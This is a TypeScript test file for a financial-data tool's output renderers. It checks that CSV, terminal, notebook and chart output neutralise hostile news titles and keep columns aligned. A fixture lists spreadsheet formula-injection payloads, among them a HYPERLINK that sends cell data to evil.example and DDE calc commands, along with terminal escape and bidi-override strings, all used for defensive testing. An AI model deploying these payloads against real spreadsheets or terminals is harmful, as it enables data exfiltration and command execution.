/**
 * What a person reads, against a hostile or foreign provider answer: a sheet cell that starts
 * like a formula does not run in a spreadsheet (negative figures stay figures), a terminal
 * escape in a news title is shown, not obeyed, wide (Chinese, Japanese) and combining
 * characters keep the columns aligned, compact lines keep a result's figures, units and
 * citations (a set of multiples was a line of six fields and its sources), and charts are
 * standalone SVG whose PNG copy reads (a news chart was an HTML figure no converter drew; a
 * month was drawn over its day under every price chart).
 */
import assert from "node:assert/strict";
import { JUPYTER_DISPLAY, show } from "../../adapters/jupyter.ts";
import { newsTimelineSvg } from "../../analysis/charts/news.ts";
import { skiaReady, svgToPng } from "../../analysis/charts/png.ts";
import { render, renderOutput } from "../../adapters/render.ts";
import { blocksText, wrap } from "../../adapters/views/text.ts";
import { cols, printable } from "../../adapters/views/width.ts";
import { success } from "../../core/envelope.ts";
import { loadCommand } from "../../commands/registry.ts";
import { run, type TestRunOptions } from "../_helpers.ts";
import { fakeMarket } from "../market/_fake.ts";

const ESC = "\x1b";

/** A GDELT article list whose titles a hostile or careless publisher wrote. */
const HOSTILE_TITLES = [
  '=HYPERLINK("https://evil.example/x?d="&A1,"Apple beats")',
  "+cmd|' /C calc'!A0 Apple",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1 Apple tab",
  `${ESC}]0;owned${"\x07"}Apple ${ESC}[2J${ESC}[31mred${ESC}[0m`,
  "Apple \u202Eevil\u202C reversed",
  // 56 characters, 112 columns: one line by its length, too wide for 100 columns
  "苹果公司股价上涨，投资者关注新款手机的销量和服务收入的增长情况以及未来的指引，分析师上调了目标价并重申买入评级。",
];

function gdelt(): typeof fetch {
  const articles = HOSTILE_TITLES.map((title, i) => ({
    url: `https://news.example.com/a${i}`,
    url_mobile: "",
    title,
    seendate: `2026022${i % 5}T10000${i}Z`,
    socialimage: "",
    domain: "news.example.com",
    language: "English",
    sourcecountry: "United States",
  }));
  return (input) => {
    const url = String(input instanceof Request ? input.url : input);
    if (!url.startsWith("https://api.gdeltproject.org/")) {
      return Promise.reject(new Error(`unexpected request ${url}`));
    }
    return Promise.resolve(
      new Response(JSON.stringify({ articles }), {
        headers: { "content-type": "application/json" },
      }),
    );
  };
}

async function hostileNews() {
  const opts: TestRunOptions = { fetch: gdelt(), now: "2026-02-25T12:00:00Z" };
  const out = await run("news.search", { query: "Apple", timespan: "7D" }, opts);
  assert.equal(out.envelope.ok, true, out.envelope.error ?? "");
  return { env: out.envelope, view: (await loadCommand("news.search")).view };
}

/** A CSV line split into cells (quotes honoured). */
function csvCells(line: string): string[] {
  const cells: string[] = [];
  let cur = "";
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') (cur += '"', i++);
      else if (c === '"') quoted = false;
      else cur += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") (cells.push(cur), cur = "");
    else cur += c;
  }
  return [...cells, cur];
}

Deno.test("csv and tsv: a provider's title that starts like a formula is prefixed with ', not run", async () => {
  const { env, view } = await hostileNews();
  for (const mode of ["csv", "tsv"] as const) {
    const out = renderOutput(env, mode, { view }).out;
    const cells = out.split("\n").flatMap((l) => (mode === "csv" ? csvCells(l) : l.split("\t")));
    // no cell a spreadsheet would evaluate
    for (const c of cells) assert.doesNotMatch(c, /^[=+\-@\t\r]/, `${mode} cell runs: ${c}`);
    // each hostile title is still there, whole, after the prefix
    assert.ok(cells.includes(`'${HOSTILE_TITLES[0]}`), out);
    assert.ok(cells.includes(`'${HOSTILE_TITLES[2]}`), out);
    assert.ok(cells.includes(`'${HOSTILE_TITLES[3]}`), out);
    assert.ok(cells.some((c) => c.startsWith("'") && c.includes("=1+1 Apple tab")), out);
  }
});

Deno.test("csv: negative figures, as numbers or as text, are not prefixed; quoting holds", () => {
  const rows = [
    { n: -150, t: "-150", c: "-1,050.25", p: "-2.5%", e: "-1.5e-7", f: "-2+3", h: "@h", s: "a,b" },
    { n: -0.5, t: "+4", c: 'say "hi"', p: "line\nbreak", e: "=1", f: "ok", h: "", s: "" },
  ];
  const out = renderOutput(success({ rows }), "csv").out.split("\n");
  assert.equal(out[0], "n,t,c,p,e,f,h,s");
  assert.equal(out[1], `-150,-150,"-1,050.25",-2.5%,-1.5e-7,'-2+3,'@h,"a,b"`);
  assert.equal(out.slice(2).join("\n"), `-0.5,+4,"say ""hi""\","line\nbreak",'=1,ok,,`);
  // a cell reference looks like a number's exponent but is not one; a dollar figure and a
  // table's nil dash stay as they are
  const refs = renderOutput(
    success({ rows: [{ a: "-E5", b: "-A1", c: "-$1,050", d: "-" }] }),
    "csv",
  );
  assert.equal(refs.out.split("\n")[1], `'-E5,'-A1,"-$1,050",-`);
  // a header from a provider's key is defused too
  const head = renderOutput(success({ rows: [{ "=cmd": 1 }] }), "csv").out.split("\n")[0];
  assert.equal(head, "'=cmd");
});

Deno.test("text, compact, csv: a terminal escape in a provider's text is shown as �, not sent", async () => {
  const { env, view } = await hostileNews();
  for (const mode of ["text", "compact", "csv", "tsv"] as const) {
    const all = render(env, mode, { view, width: 100 });
    assert.ok(!all.includes(ESC), `${mode} sends ESC`);
    assert.ok(!all.includes("\x07"), `${mode} sends BEL`);
    assert.ok(!all.includes("\u202E"), `${mode} sends a bidi override`);
    assert.match(all, /\uFFFD\]0;owned\uFFFDApple/, mode);
  }
  // the warnings and errors a provider's text reaches are cleaned too
  const failed = renderOutput(
    { ok: false, data: null, error: `bad ${ESC}[2J`, warnings: [`w ${ESC}]0;x`] },
    "text",
  );
  assert.ok(!failed.err.includes(ESC), failed.err);
  assert.equal(printable("a\r\nb\tc\rd"), "a\nb c d");
});

Deno.test("text: wide and combining characters keep a table's columns aligned and in width", () => {
  const names = [
    "阿里巴巴集团控股有限公司",
    "Nestlé S.A.",
    "Nestle\u0301 S.A.",
    "トヨタ自動車",
    "Apple Inc.",
  ];
  const lines = blocksText([{
    kind: "table",
    columns: [{ name: "name" }, { name: "price", number: true }, { name: "exchange" }],
    rows: names.map((n) => [{ text: n }, { text: "1,234.50", number: true }, { text: "HKG" }]),
  }], 100);
  const body = lines.slice(2);
  assert.equal(body.length, names.length, lines.join("\n"));
  // the price ends and the exchange starts at one terminal column on every row
  const at = (l: string, s: string) => cols(l.slice(0, l.indexOf(s)));
  const starts = body.map((l) => at(l, "HKG"));
  assert.ok(starts.every((s) => s === starts[0]), lines.join("\n"));
  assert.equal(cols(lines[0].slice(0, lines[0].indexOf("exchange"))), starts[0], lines.join("\n"));
  // a narrow terminal clips the wide name by columns, not by UTF-16 units
  const narrow = blocksText([{
    kind: "table",
    columns: [{ name: "name" }, { name: "note" }],
    rows: names.map((n) => [{ text: `${n} ${n}` }, { text: "a note that is long enough to clip" }]),
  }], 40);
  for (const l of narrow) assert.ok(cols(l) <= 40, `${cols(l)} columns: ${l}`);
  // Chinese prose (no spaces) wraps inside the width
  for (const l of wrap("投资者关注新款手机的销量".repeat(10), 40)) assert.ok(cols(l) <= 40, l);
  assert.equal(cols("阿里巴巴"), 8);
  assert.equal(cols("Nestle\u0301"), 6);
});

Deno.test("text: a news list with a Chinese title stays within 100 columns", async () => {
  const { env, view } = await hostileNews();
  const out = renderOutput(env, "text", { view, width: 100 }).out;
  for (const l of out.split("\n")) {
    if (/^\s*https?:\/\/\S+$/.test(l)) continue;
    assert.ok(cols(l) <= 100, `${cols(l)} columns: ${l}`);
  }
});

Deno.test("compact: valuation.multiples shows its multiples and each citation's URLs whole", async () => {
  const opts: TestRunOptions = { fetch: fakeMarket(), now: "2023-11-22T20:00:00Z" };
  const out = await run("valuation.multiples", { symbol: "AAPL" }, opts);
  assert.equal(out.envelope.ok, true, out.envelope.error ?? "");
  const lines = render(out.envelope, "compact").split("\n");
  const first = lines[0];
  // the figures the command is for, with the currencies they are in
  assert.match(first, / multiples\.price_to_sales=\d/);
  assert.match(first, / multiples\.ev_to_sales=\d/);
  assert.match(first, / market_cap=\d+ market_cap_currency=USD/);
  // then one line per citation, every URL whole, no empty field
  const cites = lines.filter((l) => l.startsWith("fields="));
  assert.equal(cites.length, 2, lines.join("\n"));
  for (const l of cites) {
    assert.match(l, / urls=https:\/\/\S+/);
    assert.doesNotMatch(l, /https?:\/\/\S*…/);
  }
  for (const l of lines) assert.doesNotMatch(l, /(^| )[\w.]+=( |$)/, `empty field in: ${l}`);
});

Deno.test("compact: a listed result's head names its document; a value's line breaks are spaces", () => {
  const data = {
    filing: { form: "10-K", accession_no: "0000000000-24-000001", filing_url: "https://x.test/f" },
    statement: "income",
    role: "r",
    role_definition: "d",
    count: 1,
    truncated: false,
    instance_file: "i.xml",
    provider: "filings_a",
    text: "first line\nsecond line",
    rows: [{ label: "Revenue\nnet", a: 1, b: 2, c: 3, d: 4, e: 5, f: 6, g: 7, unit: "USD" }],
  };
  const lines = render(success(data), "compact").split("\n");
  assert.equal(lines.length, 2, lines.join("\n"));
  assert.match(lines[0], / provider=filings_a /);
  assert.match(lines[0], / filing\.accession_no=0000000000-24-000001 /);
  assert.match(lines[0], / filing\.filing_url=https:\/\/x\.test\/f$/);
  // past the eight-field limit, the row's unit still comes along
  assert.match(lines[1], /^label=Revenue net a=1 .* g=7 unit=USD$/);
});

Deno.test("notebook: show() escapes a title's markup and shows its controls as �", async () => {
  const { env } = await hostileNews();
  const bundle = show(env, { command: "news.search" })[JUPYTER_DISPLAY]();
  const html = String(bundle["text/html"]);
  assert.ok(!html.includes(ESC) && !html.includes("\u202E"), "control characters reach the HTML");
  assert.match(html, /\uFFFD\]0;owned\uFFFDApple/);
  assert.ok(!bundle["text/plain"].includes(ESC), "control characters reach text/plain");
  // markup in a title is text, and only http(s) URLs become links
  assert.ok(!/<a href="(?!https?:)/.test(html), html);
});

Deno.test("news chart: a standalone SVG (no HTML figure) that converts to PNG, dates in ISO", async () => {
  const svg = await newsTimelineSvg([{
    series: "Article Count",
    unit: "articles matching the query in the interval",
    data: [
      { date: "2026-02-22T00:00:00Z", value: 812 },
      { date: "2026-02-23T00:00:00Z", value: 955 },
      { date: "2026-02-24T00:00:00Z", value: 1480 },
    ],
  }], {
    query: '"Apple"',
    request_url:
      "https://api.gdeltproject.org/api/v2/doc/doc?query=%22Apple%22&mode=timelinevolraw",
    retrieved_at: "2026-02-25T08:00:00Z",
  });
  assert.match(svg, /^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
  assert.doesNotMatch(svg, /<figure|<h2|<div/);
  // the title names the query; the caption the days shown, when they were read and the request
  assert.match(svg, />News volume over time: "Apple"</);
  assert.match(
    svg,
    /Source: GDELT DOC 2\.0 · query "Apple" · 2026-02-22 to 2026-02-24 · retrieved 2026-02-25 ·(?:<\/text><text[^>]*>)?\s*https:\/\/api\.gdeltproject\.org\/api\/v2\/doc\/doc\?query=%22Apple%22&amp;mode=timelinevolraw/,
  );
  for (const d of ["2026-02-22", "2026-02-23", "2026-02-24"]) {
    assert.match(svg, new RegExp(`>${d}<`));
  }
  assert.doesNotMatch(svg, />(?:12|6) (?:AM|PM)</);
  const png = await svgToPng(svg);
  assert.deepEqual([...png.slice(1, 4)], [0x50, 0x4e, 0x47]); // "PNG"
});

Deno.test("PNG: a two-line date tick is drawn as two lines, the month under the day", () => {
  const tick = '<svg width="50" height="40"><text transform="translate(20,10)">' +
    '<tspan y="0.71em" x="0">4</tspan><tspan dy="1em" x="0">Oct</tspan></text></svg>';
  const out = skiaReady(tick);
  // Skia measured dy from the text, not from the line above: both lines sat at about 7-10 px
  assert.match(out, /<tspan x="0" y="7\.1">4<\/tspan><tspan x="0" y="17\.1">Oct<\/tspan>/);
});

Deno.test("document.tables: a table with figures and no scale found says so in its caption", () => {
  const table = {
    table: 1,
    page: 1,
    flavor: "lattice",
    shape: [2, 2],
    header: ["Segment", "Revenue"],
    rows: [["Cloud", "4,200"], ["Devices", "(150)"]],
    values: [[null, 4200], [null, -150]],
    scale: null,
    scales: [[null, null], [null, null]],
  };
  const data = {
    source: "/tmp/x.pdf",
    path: "/tmp/x.pdf",
    format: "pdf",
    count: 1,
    tables: [table],
  };
  const out = renderOutput(success(data), "text", { view: "tables", width: 100 }).out
    .replace(/\s+/g, " ");
  assert.match(out, /figures as printed: no scale \(thousands, millions\) found with the table/);
  // a table with a stated scale says that instead
  const scaled = {
    ...table,
    scale: { multiplier: 1e6, text: "(In millions)", where: "above" },
    scales: [[null, 1e6], [null, 1e6]],
  };
  const said = renderOutput(success({ ...data, tables: [scaled] }), "text", { view: "tables" }).out
    .replace(/\s+/g, " ");
  assert.match(said, /figures in millions as printed/);
  assert.doesNotMatch(said, /no scale/);
});

Deno.test("filings.facts at 100 columns keeps each last value's accession beside it", () => {
  const report = (value: number, filed: string, acc: string) => ({
    value,
    filed,
    form: "10-K",
    accession_no: acc,
    url: `https://www.sec.gov/Archives/edgar/data/320193/${
      acc.replace(/-/g, "")
    }/${acc}-index.html`,
  });
  const rows = Array.from({ length: 5 }, (_, i) => ({
    start: `${2019 + i}-09-29`,
    end: `${2020 + i}-09-26`,
    fiscal_year: 2020 + i,
    fiscal_period: "FY",
    first_reported: report(274_515_000_000 + i, `${2020 + i}-10-30`, `0000320193-2${i}-000096`),
    last_reported: report(274_515_000_000 + i, `${2022 + i}-10-28`, `0000320193-2${i + 2}-000108`),
  }));
  const data = {
    company: "Apple Inc.",
    tags: ["RevenueFromContractWithCustomerExcludingAssessedTax"],
    taxonomy: "us-gaap",
    unit: "USD",
    count: rows.length,
    restated_count: 0,
    rows,
  };
  const out = renderOutput(success(data), "text", { view: "facts", width: 100 }).out;
  for (const r of rows) {
    const line = out.split("\n").find((l) => l.startsWith(`FY${r.fiscal_year} `));
    assert.ok(line, out);
    assert.match(line, new RegExp(`274,515,000,00\\d +${r.last_reported.accession_no}`), out);
  }
});
